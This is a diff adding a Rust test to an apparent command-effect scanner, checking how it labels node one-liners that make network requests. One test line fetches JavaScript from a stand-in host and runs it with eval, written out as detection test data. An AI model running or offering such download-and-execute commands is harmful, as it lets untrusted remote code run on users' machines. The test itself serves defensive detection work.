@@ -389,3 +389,14 @@ fn list_form_commands_name_the_home_in_each_language() {
         "{listing:?}"
     );
 }
+
+#[test]
+fn node_http_modules_under_any_name_fetch() {
+    let line = "node -e \"require('https').get('https://x.example/a.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })\"";
+    assert!(has(line, "remote_exec@none"), "{:?}", effects(line));
+    let line = "node -e \"const h = require('node:https'); h.request('https://x.example').end()\"";
+    assert!(has(line, "fetch@remote"), "{:?}", effects(line));
+    // A `get` on something else is not a fetch.
+    let line = "node -e \"const m = new Map(); console.log(m.get('a'))\"";
+    assert!(!has(line, "fetch@remote"), "{:?}", effects(line));
+}
